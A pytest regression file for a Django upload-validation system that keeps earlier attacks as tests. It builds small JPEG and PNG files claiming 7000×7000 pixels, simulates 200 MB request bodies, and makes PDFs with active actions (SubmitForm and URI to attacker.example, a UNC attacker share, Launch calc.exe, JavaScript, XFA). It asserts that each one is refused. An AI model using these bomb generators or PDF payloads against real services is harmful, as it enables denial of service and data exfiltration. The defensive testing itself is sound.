"""Issue 12's attacks that got through, each kept as a test so that the list can only grow.

Items 9 (pixel bombs, huge bodies) and 10 (active PDF content) are here; the account attacks (12, 13, 21)
are in zhicheng/accounts/tests/test_attacks_accounts.py, certificate verification (14) in
zhicheng/certificates/tests/test_verification_throttle.py, the API (16, schemathesis) in tests/test_api_attacks.py.
"""

from __future__ import annotations

import io
import struct
import zlib

import pikepdf
import pytest
from PIL import Image

from tests.samples import pdf_bytes, upload
from zhicheng.applications.models import ApplicationAttachment
from zhicheng.archive import services as archive_services
from zhicheng.archive.models import Entry
from zhicheng.archive.photo import check_photo
from zhicheng.core.uploads import UploadRejected, check_file

pytestmark = pytest.mark.django_db

EDUCATION = {
    "school": "浙江工业大学",
    "major": "机械工程",
    "level": "bachelor",
    "degree": "bachelor_degree",
    "graduated_on": "2012-06-30",
}


def tiny_jpeg_declaring(width: int, height: int) -> bytes:
    """A 630-byte JPEG whose frame header claims width×height: Pillow would decode it to that size."""
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 200, 200)).save(out, format="JPEG", quality=50)
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def tiny_png_declaring(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16)).save(out, format="PNG")
    data = bytearray(out.getvalue())
    data[16:24] = struct.pack(">II", width, height)  # IHDR's width and height, then its CRC
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


BOMB = tiny_jpeg_declaring(7000, 7000)


# --- item 9: one pixel limit for every image path, checked before decoding -------------------------------


def test_the_bomb_is_tiny_and_declares_49_megapixels():
    assert len(BOMB) < 1024
    with Image.open(io.BytesIO(BOMB)) as img:
        assert img.size == (7000, 7000)


def test_attachment_path_refuses_a_7000_by_7000_jpeg(client, login, draft_app, plan):
    requirement = plan.attachments.get()  # accepts PDF and JPEG
    login(draft_app.applicant)
    body = client.post(
        f"/applications/{draft_app.pk}/step/attachments/",
        {"requirement": requirement.pk, "file": upload("scan.jpg", BOMB, "image/jpeg")},
    ).content.decode()
    assert f"{requirement.name}：图片像素过多：7000×7000 像素" in body
    assert "上限为 4000 万像素" in body
    assert not ApplicationAttachment.objects.exists()


def test_evidence_path_refuses_a_7000_by_7000_jpeg(client, login, applicant, filled_info):
    login(applicant)
    body = client.post(
        "/archive/entries/new/education/", {**EDUCATION, "files": upload("毕业证.jpg", BOMB, "image/jpeg")}
    ).content.decode()
    assert "图片像素过多：7000×7000 像素" in body
    assert not Entry.objects.exists()


def test_a_png_declaring_too_many_pixels_is_refused():
    with pytest.raises(UploadRejected, match="图片像素过多：8000×8000 像素"):
        check_file(upload("a.png", tiny_png_declaring(8000, 8000), "image/png"), field_label="附件",
                   allowed=("png",), max_bytes=10**7)  # fmt: skip


def test_evidence_service_refuses_the_bomb(applicant, filled_info):
    with pytest.raises(UploadRejected, match="图片像素过多：7000×7000 像素"):
        archive_services.entry_create(
            owner=applicant, kind="education", data=EDUCATION, uploads=[upload("a.jpg", BOMB, "image/jpeg")]
        )


def test_photo_path_refuses_a_7000_by_7000_jpeg_before_its_other_rules():
    with pytest.raises(UploadRejected, match="图片像素过多：7000×7000 像素") as refused:
        check_photo(upload("照片.jpg", BOMB, "image/jpeg"))
    assert refused.value.field_label == "证件照"


def test_pixels_are_checked_before_any_decoding(monkeypatch):
    def no_decoding(self, *args, **kwargs):
        raise AssertionError("the image was decoded")

    monkeypatch.setattr(Image.Image, "load", no_decoding)
    monkeypatch.setattr("PIL.ImageFile.ImageFile.load", no_decoding)
    with pytest.raises(UploadRejected, match="像素过多"):
        check_file(
            upload("a.jpg", BOMB, "image/jpeg"), field_label="附件", allowed=("jpeg",), max_bytes=10**7
        )


def test_an_image_at_the_limit_is_still_accepted():
    out = io.BytesIO()
    Image.new("L", (2480, 3508), 255).save(out, format="JPEG", quality=30)  # A4 at 300 dpi
    checked = check_file(upload("a4.jpg", out.getvalue(), "image/jpeg"), field_label="附件",
                         allowed=("jpeg",), max_bytes=10**7)  # fmt: skip
    assert (checked.width, checked.height) == (2480, 3508)


class _UnreadableBody(io.BytesIO):
    """A request body that records whether anyone read it."""

    reads = 0

    def read(self, *args):
        _UnreadableBody.reads += 1
        return super().read(*args)

    def readline(self, *args):
        _UnreadableBody.reads += 1
        return super().readline(*args)


def test_a_200_mb_body_is_refused_before_it_is_read(client, login, applicant, filled_info):
    login(applicant)
    _UnreadableBody.reads = 0
    response = client.generic(
        "POST",
        "/archive/entries/new/education/",
        data=b"--x\r\n",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(200 * 1024 * 1024),
        **{"wsgi.input": _UnreadableBody(b"--x\r\n")},
    )
    assert response.status_code == 413
    assert "提交的内容过大（200 MB），单次提交不能超过 110 MB" in response.content.decode()
    assert _UnreadableBody.reads == 0


def test_a_200_mb_body_is_refused_on_the_api_with_json(client):
    response = client.generic(
        "POST", "/api/v1/plans/open", data=b"{}", content_type="application/json",
        CONTENT_LENGTH=str(200 * 1024 * 1024),
    )  # fmt: skip
    assert response.status_code == 413 and "提交的内容过大" in response.json()["detail"]


def test_request_body_limits_are_set(settings):
    assert settings.MAX_REQUEST_BODY_BYTES <= 128 * 1024 * 1024
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 16 * 1024 * 1024
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 4 * 1024 * 1024


# --- item 10: every active-content action and XFA is refused --------------------------------------------


def _pdf(build) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _link(pdf, action: pikepdf.Dictionary):
    annot = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action)
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annot]))


def _action(kind: str, **extra) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **extra)


ACTIONS = lambda: {  # noqa: E731 - fresh objects for each PDF
    "URI": _action("URI", URI=pikepdf.String("https://attacker.example/")),
    "SubmitForm": _action("SubmitForm", F=pikepdf.String("https://attacker.example/collect")),
    "GoToR": _action("GoToR", F=pikepdf.String("\\\\attacker\\share\\x.pdf"), D=pikepdf.Array([0])),
    "GoToE": _action("GoToE", D=pikepdf.Array([0])),
    "ImportData": _action("ImportData", F=pikepdf.String("data.fdf")),
    "Launch": _action("Launch", F=pikepdf.String("calc.exe")),
    "Named": _action("Named", N=pikepdf.Name.Print),
    "Hide": _action("Hide", T=pikepdf.String("field")),
    "Sound": _action("Sound"),
    "Movie": _action("Movie"),
    "Rendition": _action("Rendition"),
    "RichMediaExecute": _action("RichMediaExecute"),
    "ResetForm": _action("ResetForm"),
    "SetOCGState": _action("SetOCGState"),
    "Thread": _action("Thread"),
    "Trans": _action("Trans"),
}


def _refusal(data: bytes) -> str:
    with pytest.raises(UploadRejected) as refused:
        check_file(upload("x.pdf", data), field_label="附件", allowed=("pdf",), max_bytes=10**7)
    return str(refused.value)


@pytest.mark.parametrize("kind", sorted(ACTIONS()))
def test_a_link_with_an_active_action_is_refused(kind):
    message = _refusal(_pdf(lambda pdf: _link(pdf, ACTIONS()[kind])))
    assert f"PDF 含交互动作（{kind}）" in message and "不予接收" in message


@pytest.mark.parametrize("kind", ["URI", "SubmitForm", "Launch"])
def test_an_open_action_or_page_trigger_with_an_active_action_is_refused(kind):
    def as_open_action(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(ACTIONS()[kind])

    def as_page_trigger(pdf):
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=ACTIONS()[kind])

    def chained_after_a_goto(pdf):
        _link(
            pdf, _action("GoTo", D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]), Next=ACTIONS()[kind])
        )

    for build in (as_open_action, as_page_trigger, chained_after_a_goto):
        assert f"PDF 含交互动作（{kind}）" in _refusal(_pdf(build))


def test_javascript_anywhere_is_refused():
    assert "PDF 含脚本" in _refusal(
        _pdf(lambda pdf: _link(pdf, _action("JavaScript", JS=pikepdf.String("app.alert(1)"))))
    )


def test_an_xfa_form_is_refused():
    def xfa(pdf):
        packet = pdf.make_stream(
            b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x</script></xdp:xdp>"
        )
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=packet)

    assert "PDF 含 XFA 表单脚本" in _refusal(_pdf(xfa))


@pytest.mark.parametrize("subtype", ["RichMedia", "Movie", "Sound", "Screen", "FileAttachment"])
def test_media_and_attachment_annotations_are_refused(subtype):
    def media(pdf):
        annot = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/" + subtype), Rect=[0, 0, 9, 9]
        )
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))

    assert f"（{subtype}）" in _refusal(_pdf(media))


def test_a_jump_inside_the_document_is_accepted():
    def goto(pdf):
        pdf.add_blank_page(page_size=(595, 842))
        _link(pdf, _action("GoTo", D=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit])))
        pdf.Root.OpenAction = pikepdf.Array(
            [pdf.pages[0].obj, pikepdf.Name.Fit]
        )  # a destination, not an action

    checked = check_file(upload("ok.pdf", _pdf(goto)), field_label="附件", allowed=("pdf",), max_bytes=10**7)
    assert checked.kind == "pdf"


def test_a_tagged_pdf_structure_type_is_not_mistaken_for_an_action():
    def tagged(pdf):
        element = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.StructElem, S=pikepdf.Name.P))
        pdf.Root.StructTreeRoot = pikepdf.Dictionary(Type=pikepdf.Name.StructTreeRoot, K=element)

    assert check_file(upload("t.pdf", _pdf(tagged)), field_label="附件", allowed=("pdf",), max_bytes=10**7)


def test_a_plain_scan_is_accepted():
    assert check_file(upload("s.pdf", pdf_bytes()), field_label="附件", allowed=("pdf",), max_bytes=10**7)
